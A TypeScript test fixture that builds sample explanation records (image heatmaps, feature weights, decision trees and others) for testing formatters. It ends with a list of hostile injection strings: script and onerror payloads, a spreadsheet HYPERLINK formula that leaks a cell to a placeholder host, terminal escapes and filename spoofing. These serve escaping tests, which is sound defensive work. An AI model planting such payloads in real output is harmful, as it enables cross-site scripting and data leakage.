/**
 * One realistic record of every kind, for the tests of formatters: asymmetric
 * (height is never width), with several targets, warnings, negative evidence
 * and options. `hostile` gives the same record with strings an attacker would
 * choose in every place that comes from outside.
 */
import type {
  ConceptsExplanation,
  DecisionTreeExplanation,
  Explanation,
  ExplanationKind,
  FeatureImportancesExplanation,
  FeatureWeightsExplanation,
  Heatmap,
  ImageExplanation,
  LayerChoice,
  NdArray,
  Picture,
  SignalExplanation,
  TransitionFeaturesExplanation,
  VolumeExplanation,
  WeightedSpansExplanation,
} from '../../src/explanation.js';

const layer: LayerChoice = {
  path: 'backbone/conv_pw_13_relu',
  shape: [6, 8, 256],
  reason: 'the last layer whose output is larger than 1×1, after its activation',
  runnersUp: [
    { path: 'backbone/conv_dw_13_relu', shape: [6, 8, 256] },
    { path: 'backbone/conv_pw_12_relu', shape: [6, 8, 256] },
  ],
};

/** A brown dog-like disc and a small grey cat-like one before a sloping green: 64 wide, 48 high. */
function examplePicture(): Picture {
  const [width, height] = [64, 48];
  const data = new Uint8ClampedArray(width * height * 3);
  for (let y = 0, at = 0; y < height; y++) {
    for (let x = 0; x < width; x++, at += 3) {
      const dog = ((x - 20) / 13) ** 2 + ((y - 20) / 15) ** 2 < 1;
      const cat = ((x - 50) / 7) ** 2 + ((y - 36) / 8) ** 2 < 1;
      const light = 1 - (0.3 * Math.abs(x - y)) / width;
      const color = dog ? [168, 110, 62] : cat ? [128, 128, 136] : [60 + x, 130 + y, 90];
      color.forEach((value, channel) => (data[at + channel] = Math.floor(value * light)));
    }
  }
  return { width, height, mode: 'RGB', data };
}

/** Bumps `[row, column, height, spread]` summed over `[rows, columns]`: signed and lopsided. */
function bumps(
  rows: number,
  columns: number,
  list: readonly (readonly [number, number, number, number])[],
): Heatmap {
  const data = new Float32Array(rows * columns);
  for (let y = 0, at = 0; y < rows; y++) {
    for (let x = 0; x < columns; x++, at++) {
      for (const [row, column, height, spread] of list) {
        const distance = (y - row) ** 2 + (x - column) ** 2;
        // a rational bump and no exponential: the same bits on every machine
        data[at] += height / (1 + distance / spread ** 2) ** 2;
      }
    }
  }
  return { shape: [rows, columns], data };
}

export const imageRecord: ImageExplanation = {
  kind: 'image',
  estimator: 'mobilenet_v1_0.25_224',
  method: 'grad-cam',
  description:
    'Positive values are where the layer saw evidence for the target, negative values evidence against it; channels are weighted by their mean gradient.',
  isRegression: false,
  parameters: { layer: 'auto', score: 'logit', reluRule: 'plain', seed: 0 },
  warnings: ['the layer has 6×8 cells: anything smaller than 8×8 pixels cannot be told apart'],
  image: examplePicture(),
  layer,
  input: 'image',
  targets: [
    {
      target: 243,
      definition: { kind: 'class', index: 243 },
      label: 'bull mastiff',
      score: 9.8125,
      proba: 0.8125,
      heatmap: bumps(6, 8, [
        [2, 2.25, 1.5, 1.25],
        [4.5, 6.25, -0.5, 1],
      ]),
    },
    {
      target: 282,
      definition: { kind: 'class', index: 282 },
      label: 'tiger cat',
      score: 6.25,
      proba: 0.03125,
      heatmap: bumps(6, 8, [
        [4.5, 6.25, 0.75, 0.75],
        [1, 2, -1, 1.5],
      ]),
    },
  ],
};

const samples = 60;

export const signalRecord: SignalExplanation = {
  kind: 'signal',
  estimator: 'ecg-net',
  method: 'layer-cam',
  description: 'Positive values are the moments that speak for the target.',
  isRegression: false,
  parameters: { seed: 0 },
  warnings: [],
  input: 'ecg',
  layer: { path: 'conv1d_4', shape: [15, 32], reason: 'named by the caller', runnersUp: [] },
  signal: {
    shape: [samples, 2],
    data: Float32Array.from({ length: samples * 2 }, (_, i) => {
      const at = i >> 1;
      const beat = 1 / (1 + (((at + (i % 2) * 3) % 20) - 6) ** 2);
      return i % 2 === 0 ? beat : 0.25 - beat / 2;
    }),
  },
  targets: [
    {
      target: 'atrial fibrillation',
      label: 'atrial fibrillation',
      score: 2.5,
      proba: 0.90625,
      heatmap: {
        shape: [15],
        data: Float32Array.from([
          0, 0.125, 0.5, 0.25, 0, 0, 0, 0.75, 2, 1, 0.125, -0.25, -0.5, 0, 0,
        ]),
      },
    },
  ],
};

export const volumeRecord: VolumeExplanation = {
  kind: 'volume',
  estimator: 'ct-net',
  method: 'grad-cam',
  description: 'Positive values are the voxels that speak for the target.',
  isRegression: true,
  parameters: { seed: 0 },
  warnings: [],
  volume: volumeOf([6, 8, 10, 1], (d, y, x) => (d * 3 + y * 2 + x) / 64),
  targets: [
    {
      target: 0,
      definition: { kind: 'regression', index: 0, sign: 1 },
      label: 'nodule diameter',
      score: 7.25,
      heatmap: volumeOf([3, 4, 5], (d, y, x) =>
        d === 1 ? 1.5 / (1 + (y - 2) ** 2 + (x - 3) ** 2) : d === 2 ? -0.25 + 0.125 * y : 0,
      ),
    },
  ],
};

export const conceptsRecord: ConceptsExplanation = {
  kind: 'concepts',
  estimator: 'mobilenet_v1_0.25_224',
  method: 'deep-feature-factorization',
  description: 'Each concept is a part of the picture that the layer treats alike.',
  isRegression: false,
  parameters: { concepts: 3, seed: 7 },
  warnings: ['three concepts explain 71 % of the activations'],
  image: examplePicture(),
  layer,
  targets: [
    { target: 243, label: 'bull mastiff', score: 9.8125, proba: 0.8125 },
    { target: 282, label: 'tiger cat', score: 6.25, proba: 0.03125 },
  ],
  concepts: [
    {
      name: 'concept 1',
      heatmap: bumps(6, 8, [[2, 2.25, 1.5, 1.25]]),
      scores: [
        { target: 243, label: 'bull mastiff', score: 8.5, proba: 0.71875 },
        { target: 246, label: 'Great Dane', score: 5.5, proba: 0.125 },
      ],
    },
    {
      name: 'concept 2',
      heatmap: bumps(6, 8, [[4.5, 6.25, 0.75, 0.75]]),
      scores: [{ target: 282, label: 'tiger cat', score: 5.75, proba: 0.46875 }],
    },
    {
      name: 'concept 3',
      heatmap: bumps(6, 8, [[0, 7, 0.5, 3]]),
      scores: [{ target: 975, label: 'lakeside', score: 1.25, proba: 0.0625 }],
    },
  ],
};

export const featureWeightsRecord: FeatureWeightsExplanation = {
  kind: 'feature-weights',
  estimator: 'credit-scorer',
  method: 'linear-weights',
  description:
    'Each weight is the coefficient times the value of the feature; they add up to the score.',
  isRegression: false,
  parameters: { top: 5, seed: 0 },
  warnings: [],
  targets: [
    {
      target: 1,
      label: 'repaid',
      score: 1.40625,
      proba: 0.8032,
      featureWeights: {
        pos: [
          { feature: 'income', weight: 1.75, std: 0.125, value: 52000 },
          { feature: '<BIAS>', weight: 0.5, value: 1 },
          { feature: 'years at address', weight: 0.25, std: 0.0625, value: 7.5 },
        ],
        neg: [
          { feature: 'open loans', weight: -0.96875, std: 0.25, value: 3 },
          { feature: 'city=大阪市', weight: -0.125, value: '大阪市' },
        ],
        posRemaining: 4,
        negRemaining: 2,
      },
    },
    {
      target: 0,
      label: 'défaut',
      score: -1.40625,
      proba: 0.1968,
      featureWeights: {
        pos: [{ feature: 'open loans', weight: 0.96875, value: 3 }],
        neg: [
          { feature: 'income', weight: -1.75, value: 52000 },
          { feature: '<BIAS>', weight: -0.5, value: 1 },
        ],
        posRemaining: 0,
        negRemaining: 5,
      },
    },
  ],
};

const medicine = 'As I recall, the kidney stone pain was worse than medication could ease.';
const spaceship = 'No orbit here, only 薬 and a naïve doctor.';

const weightedSpansRecord: WeightedSpansExplanation = {
  kind: 'weighted-spans',
  estimator: 'newsgroups-linear',
  method: 'linear-text',
  description: 'Weights of the words of the text; with the bias they add up to the score.',
  isRegression: false,
  parameters: { top: 10, seed: 0 },
  warnings: [],
  targets: [
    {
      target: 2,
      label: 'sci.med',
      score: 2.875,
      proba: 0.9375,
      weightedSpans: {
        documents: [
          {
            document: medicine,
            vectorizer: 'words',
            spans: [
              { feature: 'kidney', spans: [spanOf(medicine, 'kidney')], weight: 1.5 },
              { feature: 'kidney stone', spans: [spanOf(medicine, 'kidney stone')], weight: 0.5 },
              { feature: 'pain', spans: [spanOf(medicine, 'pain')], weight: 0.75 },
              { feature: 'recall', spans: [spanOf(medicine, 'recall')], weight: -0.625 },
            ],
          },
          {
            document: spaceship,
            vectorizer: 'characters',
            preserveDensity: true,
            spans: [
              { feature: 'doc', spans: [spanOf(spaceship, 'doc')], weight: 0.5 },
              { feature: 'oct', spans: [spanOf(spaceship, 'oct')], weight: 0.25 },
              { feature: '薬', spans: [spanOf(spaceship, '薬')], weight: 0.375 },
              { feature: 'orb', spans: [spanOf(spaceship, 'orb')], weight: -0.25 },
            ],
          },
        ],
        other: {
          pos: [],
          neg: [{ feature: '<BIAS>', weight: -0.125, value: 1 }],
          posRemaining: 0,
          negRemaining: 0,
        },
      },
      featureWeights: {
        pos: [
          { feature: 'kidney', weight: 1.5 },
          { feature: 'Highlighted in text (rest)', weight: 1.375 },
          { feature: 'pain', weight: 0.75 },
        ],
        neg: [
          { feature: 'recall', weight: -0.625 },
          { feature: '<BIAS>', weight: -0.125 },
        ],
        posRemaining: 0,
        negRemaining: 1,
      },
    },
  ],
};

export const featureImportancesRecord: FeatureImportancesExplanation = {
  kind: 'feature-importances',
  estimator: 'boston-forest',
  method: 'permutation-importance',
  description:
    'How much the error grows when one column is shuffled; the spread is over 10 shuffles.',
  isRegression: true,
  parameters: { repeats: 10, seed: 3 },
  warnings: ['columns that carry the same information share their importance'],
  importances: [
    { feature: 'rooms', weight: 0.4375, std: 0.03125 },
    { feature: 'lower status %', weight: 0.3125, std: 0.0625 },
    { feature: 'distance to work', weight: 0.0625, std: 0.0078125 },
    { feature: 'crime rate', weight: 0.03125 },
  ],
  remaining: 9,
};

export const decisionTreeRecord: DecisionTreeExplanation = {
  kind: 'decision-tree',
  estimator: 'iris-tree',
  method: 'decision-tree',
  description:
    'The rules of the tree; values are the share of each class among the samples that arrive.',
  isRegression: false,
  parameters: { seed: 0 },
  warnings: [],
  criterion: 'gini',
  isClassification: true,
  classNames: ['setosa', 'versicolor', 'virginica'],
  importances: [
    { feature: 'petal width (cm)', weight: 0.9375 },
    { feature: 'petal length (cm)', weight: 0.0625 },
  ],
  tree: {
    id: 0,
    isLeaf: false,
    value: [50, 50, 50],
    valueRatio: [1 / 3, 1 / 3, 1 / 3],
    impurity: 2 / 3,
    samples: 150,
    sampleRatio: 1,
    featureName: 'petal width (cm)',
    featureId: 3,
    threshold: 0.75,
    left: {
      id: 1,
      isLeaf: true,
      value: [50, 0, 0],
      valueRatio: [1, 0, 0],
      impurity: 0,
      samples: 50,
      sampleRatio: 1 / 3,
    },
    right: {
      id: 2,
      isLeaf: false,
      value: [0, 50, 50],
      valueRatio: [0, 0.5, 0.5],
      impurity: 0.5,
      samples: 100,
      sampleRatio: 2 / 3,
      featureName: 'petal length (cm)',
      featureId: 2,
      threshold: 4.75,
      left: {
        id: 3,
        isLeaf: true,
        value: [0, 44, 1],
        valueRatio: [0, 44 / 45, 1 / 45],
        impurity: 0.0435,
        samples: 45,
        sampleRatio: 0.3,
      },
      right: {
        id: 4,
        isLeaf: true,
        value: [0, 6, 49],
        valueRatio: [0, 6 / 55, 49 / 55],
        impurity: 0.1944,
        samples: 55,
        sampleRatio: 11 / 30,
      },
    },
  },
};

const transitionFeaturesRecord: TransitionFeaturesExplanation = {
  kind: 'transition-features',
  estimator: 'ner-crf',
  method: 'crf-transitions',
  description: 'How much the model likes each label to follow each other one.',
  isRegression: false,
  parameters: { seed: 0 },
  warnings: [],
  classNames: ['O', 'B-PER', 'I-PER'],
  coefficients: [
    [2.5, 1.25, -7.5],
    [0.125, -1.75, 4.25],
    [0.5, -3, 3.125],
  ],
};

/** Every kind, in the order of `EXPLANATION_KINDS`. */
export const records: { readonly [K in ExplanationKind]: Extract<Explanation, { kind: K }> } = {
  image: imageRecord,
  signal: signalRecord,
  volume: volumeRecord,
  concepts: conceptsRecord,
  'feature-weights': featureWeightsRecord,
  'weighted-spans': weightedSpansRecord,
  'feature-importances': featureImportancesRecord,
  'decision-tree': decisionTreeRecord,
  'transition-features': transitionFeaturesRecord,
};

/** Strings that break out of HTML, attributes, scripts, styles, comments, CSV cells and terminals. */
export const HOSTILE_STRINGS = [
  '<script>globalThis.__hacked = 1</script>',
  '"><img src=x onerror="globalThis.__hacked = 1">',
  "' autofocus onfocus='globalThis.__hacked = 1' x='",
  '</script></style></title></textarea>--><svg onload=globalThis.__hacked=1>',
  '=HYPERLINK("https://example.invalid/?"&A1,"total")',
  '\u001b[31mred\u001b]0;title\u0007\u0000\u009b2J',
  '\u202Egnp.exe\u2028\r\nsecond line\tcell,"quoted"',
  'javascript:globalThis.__hacked=1//${globalThis.__hacked=1}`]]>',
  '__proto__',
] as const;

/**
 * The same record with a hostile string before every string from outside
 * (names, labels, documents, keys of parameters); the spans move along.
 */
export function hostile<E extends Explanation>(record: E): E {
  let turn = 0;
  const next = (): string => HOSTILE_STRINGS[turn++ % HOSTILE_STRINGS.length];
  const walk = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      return ['kind', 'mode', 'output'].includes(key) ? value : next() + value;
    }
    if (typeof value !== 'object' || value === null || ArrayBuffer.isView(value)) return value;
    if (Array.isArray(value)) return value.map((item) => walk(item, key));
    const entries = Object.entries(value);
    if (entries.some(([name]) => name === 'document')) return hostileDocument(value as never, next);
    return Object.fromEntries(
      entries.flatMap(([name, item]) => {
        const walked: [string, unknown] = [name, walk(item, name)];
        return key === 'parameters' && typeof item === 'string'
          ? [walked, [next() + name, next()]]
          : [walked];
      }),
    );
  };
  return walk(record, '') as E;
}

type Mutable = { document: string; spans: { spans: [number, number][]; feature: string }[] };

function hostileDocument(value: Mutable, next: () => string): unknown {
  const before = HOSTILE_STRINGS.join(' ');
  return {
    ...value,
    document: before + value.document,
    vectorizer: next(),
    spans: value.spans.map((span, index) => ({
      ...span,
      feature: next() + span.feature,
      spans: [
        ...span.spans.map(([from, to]) => [from + before.length, to + before.length]),
        // cuts through the middle of the hostile part too
        [3 + index * 7, 12 + index * 11],
      ],
    })),
  };
}

function spanOf(text: string, part: string): [number, number] {
  const start = text.indexOf(part);
  return [start, start + part.length];
}

function volumeOf(
  shape: readonly number[],
  valueAt: (d: number, y: number, x: number) => number,
): NdArray {
  const [depth, height, width] = shape;
  const data = new Float32Array(depth * height * width);
  for (let d = 0, at = 0; d < depth; d++) {
    for (let y = 0; y < height; y++) {
      for (let x = 0; x < width; x++, at++) data[at] = valueAt(d, y, x);
    }
  }
  return { shape, data };
}
